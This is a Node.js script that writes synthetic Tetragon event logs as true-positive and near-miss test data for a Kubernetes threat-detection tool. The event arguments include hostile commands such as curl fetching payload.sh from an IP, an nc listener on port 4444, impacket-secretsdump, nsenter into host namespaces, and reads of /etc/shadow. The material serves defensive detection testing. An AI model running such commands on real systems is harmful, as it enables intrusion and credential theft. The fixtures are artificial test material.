#!/usr/bin/env node
// Writes the attack_data-style datasets shipped with vigil (attack_data/datasets/...): true positives and
// near misses for every bundled detection, as realistic Tetragon events. Deterministic; rerun after edits:
//   node scripts/build-datasets.mjs
// The expected results of the golden tests are computed from these files by an independent script
// (test/golden/expected.py), never by vigil itself.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { containerIdFor, processConnect, processExec, processExit, processKprobe, rfc3339, rfc3339Seconds } from './tetragon-factory.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', 'attack_data');
const T0 = Date.UTC(2026, 10, 20, 10, 0, 0) / 1000; // 2026-11-20T10:00:00Z
const CLUSTER = 'prod-eu-1';
const NODE_A = 'ip-10-0-1-17.eu-west-1.compute.internal';
const NODE_B = 'ip-10-0-2-33.eu-west-1.compute.internal';

function pod(name, namespace, image, opts = {}) {
  const containerId = containerIdFor(name);
  return {
    name,
    namespace,
    image,
    containerId,
    containerName: opts.containerName ?? name.split('-')[0],
    containerStart: opts.containerStart ?? rfc3339(T0 - 86400 + 41.5),
    workload: opts.workload ?? name.replace(/-[a-z0-9]{9,10}-[a-z0-9]{5}$/, ''),
    workloadKind: opts.workloadKind ?? 'Deployment',
    privileged: opts.privileged ?? false,
    labels: opts.labels,
  };
}

const FRONTEND = pod('frontend-6d8f9c7b5-x2kqp', 'shop', 'docker.io/acme/frontend:1.4.2');
const PAYMENTS = pod('payments-api-7f9d4c8b6-m3n8z', 'payments', 'docker.io/library/ubuntu:22.04');
const GRAFANA = pod('grafana-5c7d8f9b4-q7w2e', 'monitoring', 'docker.io/grafana/grafana:12.0.1');
const TOOLBOX = pod('debug-toolbox', 'default', 'docker.io/nicolaka/netshoot:v0.13', { privileged: true, workloadKind: 'Pod', workload: 'debug-toolbox' });
const CI = pod('tetragon-ci-runner-8b7c6d5f4-k9j8h', 'ci', 'quay.io/isovalent/tetragon-ci:v1.2.0');
const AWS_NODE = pod('aws-node-9twpn', 'kube-system', '066635153087.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni:v1.19.2', { workload: 'aws-node', workloadKind: 'DaemonSet' });

const SHIM = (p) => ({
  binary: '/usr/bin/containerd-shim-runc-v2',
  args: `-namespace k8s.io -id ${containerIdFor(p?.name ?? 'host')} -address /run/containerd/containerd.sock`,
  pid: 2900 + ((p?.name.length ?? 0) % 50),
  start: T0 - 86400,
  cwd: `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${containerIdFor(p?.name ?? 'host')}`,
  flags: 'procFS auid',
  pod: null,
});

let pidSeq = 41000;
/** A process_exec in `p` (or on the host when p is null) at T0 + dt seconds. */
function exec(p, dt, binary, args, parent = { binary: '/bin/sh', args: undefined }, opts = {}) {
  const time = T0 + dt;
  const pid = opts.pid ?? pidSeq++;
  return processExec({
    time,
    node: opts.node ?? NODE_A,
    cluster: opts.cluster === undefined ? CLUSTER : opts.cluster,
    process: { binary, args, pid, uid: opts.uid ?? 0, cwd: opts.cwd ?? '/', start: opts.start ?? time - 0.000211, startText: opts.startText, pod: p ?? undefined },
    parent: parent.binary === '/usr/bin/containerd-shim-runc-v2'
      ? SHIM(p)
      : { binary: parent.binary, args: parent.args, pid: pid - 3, start: time - 12.5, pod: p ?? undefined, cwd: '/' },
  });
}

function write(rel, events) {
  const file = join(root, rel);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
  console.log(`${rel}: ${events.length} events`);
}

// ---------------------------------------------------------------- cisco_isovalent.log (process_exec)
const SH = { binary: '/bin/sh', args: '-c /entrypoint.sh' };
const BASH = { binary: '/bin/bash' };
const main = [
  // background: ordinary workload processes in every pod
  exec(FRONTEND, 5, '/usr/local/bin/node', 'server.js --port 8080', { binary: '/usr/bin/containerd-shim-runc-v2' }),
  exec(PAYMENTS, 7, '/usr/bin/java', '-Xmx512m -jar /app/payments.jar', { binary: '/usr/bin/containerd-shim-runc-v2' }),
  exec(GRAFANA, 9, '/usr/share/grafana/bin/grafana', 'server --homepath=/usr/share/grafana', { binary: '/usr/bin/containerd-shim-runc-v2' }),
  exec(CI, 11, '/usr/bin/make', 'e2e-test', { binary: '/bin/bash', args: '-c "make e2e-test"' }),
  exec(CI, 12, '/bin/bash', '-c "make e2e-test"', { binary: '/usr/bin/containerd-shim-runc-v2' }),
  // shells (Shell Execution true positives; also Late Process candidates in the delayed file)
  exec(FRONTEND, 60, '/bin/sh', '-c /entrypoint.sh', { binary: '/usr/bin/containerd-shim-runc-v2' }),
  exec(TOOLBOX, 120, '/bin/bash', undefined, { binary: '/usr/bin/containerd-shim-runc-v2' }),
  exec(PAYMENTS, 130, '/bin/dash', '-c "java -version"', { binary: '/usr/bin/java', args: '-jar /app/payments.jar' }),
  exec(null, 140, '/usr/bin/zsh', undefined, { binary: '/usr/sbin/sshd', args: '-D' }, { node: NODE_B }),
  // shell without cluster_name (older Tetragon): dropped by stats ... by cluster_name
  exec(null, 150, '/bin/bash', '--login', { binary: '/usr/sbin/sshd', args: '-D' }, { node: NODE_B, cluster: null }),
  // near misses for the shell list
  exec(FRONTEND, 160, '/bin/busybox', 'wget -q -O- http://checkout/health', SH),
  exec(FRONTEND, 165, '/usr/bin/bashbug', undefined, SH),
  // curl with insecure flags (Curl Execution With Insecure Flags)
  exec(FRONTEND, 300, '/usr/bin/curl', '-sSLk https://198.51.100.23/payload.sh -o /tmp/p.sh', SH),
  exec(TOOLBOX, 310, '/usr/bin/curl', '--insecure https://internal-api.shop.svc.cluster.local/health', BASH),
  exec(PAYMENTS, 320, '/usr/bin/curl', '-K /tmp/curlrc https://api.stripe.example', SH), // -K (config) matches: the regex is (?i)
  exec(TOOLBOX, 330, '/usr/bin/curl', '--proxy-insecure -x https://10.9.8.7:3128 https://example.org', BASH),
  // curl near misses
  exec(FRONTEND, 340, '/usr/bin/curl', '-s https://k8s.io/', SH),
  exec(FRONTEND, 345, '/usr/bin/curl', 'https://example.com/a-k', SH),
  exec(FRONTEND, 350, '/usr/bin/curl-config', '--libs', SH),
  exec(FRONTEND, 355, '/usr/bin/wget', '--no-check-certificate https://198.51.100.23/x', SH),
  exec(null, 360, '/usr/bin/curl', '-k https://10.0.0.1:10250/healthz', { binary: '/usr/bin/kubelet', args: '--config=/etc/kubernetes/kubelet.conf' }), // host: no pod_name
  // cron (Cron Job Creation)
  exec(FRONTEND, 400, '/usr/sbin/cron', '-f', SH),
  exec(TOOLBOX, 410, '/usr/bin/crontab', '-l', BASH),
  exec(null, 420, '/usr/sbin/crond', '-n', { binary: '/usr/lib/systemd/systemd', args: '--switched-root --system' }), // host
  exec(FRONTEND, 430, '/usr/bin/cronolog', '/var/log/app-%Y%m%d.log', SH),
  // nsenter (Nsenter Usage in Kubernetes Pod)
  exec(TOOLBOX, 500, '/usr/bin/nsenter', '-t 1 -m -u -n -i -p bash', BASH),
  exec(null, 510, '/usr/bin/nsenter', '--target 1 --mount', { binary: '/usr/bin/bash' }), // host: no pod
  // offensive tools (Pods Running Offensive Tools)
  exec(TOOLBOX, 600, '/usr/bin/nmap', '-sS -p 1-1024 10.0.0.0/24', BASH),
  exec(TOOLBOX, 610, '/usr/bin/nc', '-lvnp 4444', BASH),
  exec(TOOLBOX, 620, '/usr/local/bin/impacket-secretsdump', '-just-dc corp/admin@10.0.0.5', BASH), // not in the list ("impacket-" has no wildcard)
  exec(FRONTEND, 630, '/usr/bin/ncat', '--version', SH),
];
write('datasets/cisco_isovalent/cisco_isovalent.log', main);

// ---------------------------------------------------------------- kprobe_spike.log (process_kprobe, sourcetype cisco:isovalent)
let kp = 0;
function kprobe(p, dt, fn, path, opts = {}) {
  const time = T0 + dt;
  const pid = 52000 + kp++;
  const parentPod = opts.parentPod === undefined ? p : opts.parentPod;
  return processKprobe({
    time,
    node: NODE_A,
    cluster: CLUSTER,
    process: { binary: opts.binary ?? '/bin/cat', args: path, pid, start: time - 0.002, pod: p ?? undefined },
    parent: { binary: '/bin/sh', args: '-c "cat /etc/shadow"', pid: pid - 1, start: time - 1, pod: parentPod ?? undefined },
    kprobe: {
      function_name: fn,
      args: [{ file_arg: { path, permission: '-rw-r-----' } }, { string_arg: path }, { int_arg: 4 }],
      return: { int_arg: 0 },
      policy_name: 'file-monitoring',
    },
  });
}
const kprobes = [];
// payments: 12 kprobes in the 10:00-10:05 bin (> 10: a spike)
for (let i = 0; i < 12; i++) kprobes.push(kprobe(PAYMENTS, 20 + i * 15, i % 3 === 0 ? 'security_file_permission' : 'security_file_open', i % 2 ? '/etc/shadow' : '/etc/passwd'));
// frontend: exactly 10 in one bin (not > 10)
for (let i = 0; i < 10; i++) kprobes.push(kprobe(FRONTEND, 30 + i * 20, 'security_file_open', '/etc/shadow'));
// grafana: 11 kprobes split over two bins (6 + 5)
for (let i = 0; i < 11; i++) kprobes.push(kprobe(GRAFANA, 240 + i * 20, 'security_file_open', '/var/lib/grafana/grafana.db'));
// host kprobes (no pod): dropped by stats ... by pod_name
for (let i = 0; i < 12; i++) kprobes.push(kprobe(null, 25 + i * 10, 'security_kernel_read_file', '/lib/modules/hello.ko', { binary: '/usr/sbin/insmod' }));
// process_exit events in the same file: no process_kprobe.action
kprobes.push(processExit({ time: T0 + 50, node: NODE_A, cluster: CLUSTER, process: { binary: '/bin/cat', args: '/etc/shadow', pid: 52999, start: T0 + 49, pod: PAYMENTS }, parent: { binary: '/bin/sh', pid: 52998, start: T0 + 40 } }));
kprobes.sort((a, b) => (a.time < b.time ? -1 : a.time > b.time ? 1 : 0));
write('datasets/cisco_isovalent/kprobe_spike.log', kprobes);

// ---------------------------------------------------------------- delayed shell (Late Process Execution)
const LATE = pod('checkout-5f6d7c8b9-p4q5r', 'shop', 'docker.io/acme/checkout:2.0.1', { containerStart: '2026-11-20T09:00:00.123456789Z' });
const EARLY = pod('cart-7c8d9e6f5-t6u7v', 'shop', 'docker.io/acme/cart:3.1.0', { containerStart: '2026-11-20T09:59:30.500000000Z' });
const WHOLE = pod('search-6b7c8d9e4-w8x9y', 'shop', 'docker.io/acme/search:1.0.0', { containerStart: rfc3339Seconds(T0 - 7200) });
const delayed = [
  exec(LATE, 0, '/bin/sh', '-c "cat /etc/hostname"', { binary: '/usr/bin/runc', args: 'exec -t checkout sh' }), // 60 min after start: late
  exec(LATE, 30, '/bin/bash', undefined, { binary: '/usr/bin/runc', args: 'exec -t checkout bash' }), // late, but not sh
  exec(EARLY, 60, '/bin/sh', '-c /docker-entrypoint.sh', { binary: '/usr/bin/containerd-shim-runc-v2' }), // 90 s after start
  exec(EARLY, 400, '/bin/sh', '-c "env | sort"', { binary: '/usr/bin/runc', args: 'exec cart sh' }), // 7 min after start: late
  exec(WHOLE, 120, '/bin/sh', '-i', { binary: '/usr/bin/runc', args: 'exec -t search sh' }), // container start has no fraction: strptime %9Q fails, row dropped
];
write('datasets/cisco_isovalent/cisco_isovalent_process_exec_delayed_shell.log', delayed);

// ---------------------------------------------------------------- escape to host (Potential Escape to Host)
const escape = [
  exec(TOOLBOX, 10, '/usr/bin/nsenter', '-t 1 -m -u -n -i -p bash', BASH),
  exec(TOOLBOX, 40, '/bin/mount', '-t proc proc /host/proc', BASH),
  exec(TOOLBOX, 90, '/bin/ps', 'aux', BASH),
  exec(TOOLBOX, 95, '/bin/ps', 'aux', BASH),
  exec(FRONTEND, 180, '/bin/ls', '-la /', SH), // frontend: ls at 10:03, ps at 10:07 -> different 5m bins
  exec(FRONTEND, 420, '/bin/ps', '-ef', SH),
  exec(PAYMENTS, 600, '/bin/sh', '-c "ps aux | grep java"', { binary: '/usr/bin/java', args: '-jar /app/payments.jar' }), // matched through process "*ps aux*"
  exec(PAYMENTS, 660, '/bin/ls', '/proc', SH),
  exec(GRAFANA, 700, '/usr/bin/find', '/ -name "*.db"', SH), // near miss: not in the lists
  exec(GRAFANA, 710, '/bin/cat', '/proc/mounts', SH), // "*mount*" matches process: one command only
  exec(null, 800, '/bin/mount', '', { binary: '/bin/bash' }), // host, no pod
  exec(null, 810, '/bin/ps', '-ef', { binary: '/bin/bash' }),
];
write('datasets/attack_techniques/T1611/cisco_isovalent_k8_escape/cisco_isovalent.log', escape);

// ---------------------------------------------------------------- cloud metadata (Access To Cloud Metadata Service)
let cp = 61000;
function connect(p, dt, binary, parentBinary, dest, srcIp) {
  const time = T0 + dt;
  const pid = cp++;
  return processConnect({
    time,
    node: NODE_A,
    cluster: CLUSTER,
    process: { binary, args: undefined, pid, start: time - 0.3, pod: p ?? undefined },
    parent: { binary: parentBinary, pid: pid - 2, start: time - 30, pod: p ?? undefined },
    socket: { source_ip: srcIp, source_port: 40000 + (pid % 20000), destination_ip: dest, destination_port: 80, protocol: 'TCP' },
  });
}
const connects = [
  connect(FRONTEND, 10, '/usr/bin/curl', '/bin/sh', '169.254.169.254', '10.0.1.45'),
  connect(FRONTEND, 130, '/usr/bin/curl', '/bin/sh', '169.254.169.254', '10.0.1.45'),
  connect(PAYMENTS, 200, '/usr/bin/python3', '/bin/bash', '169.254.169.254', '10.0.1.52'),
  connect(AWS_NODE, 60, '/app/grpc-health-probe', '/app/aws-vpc-cni', '169.254.169.254', '10.0.1.17'), // excluded cloud binary (parent)
  connect(null, 300, '/usr/bin/amazon-ssm-agent', '/usr/lib/systemd/systemd', '169.254.169.254', '10.0.1.17'), // host
];
write('datasets/attack_techniques/T1552.005/isovalent_cloud_metadata/process_connect.log', connects);
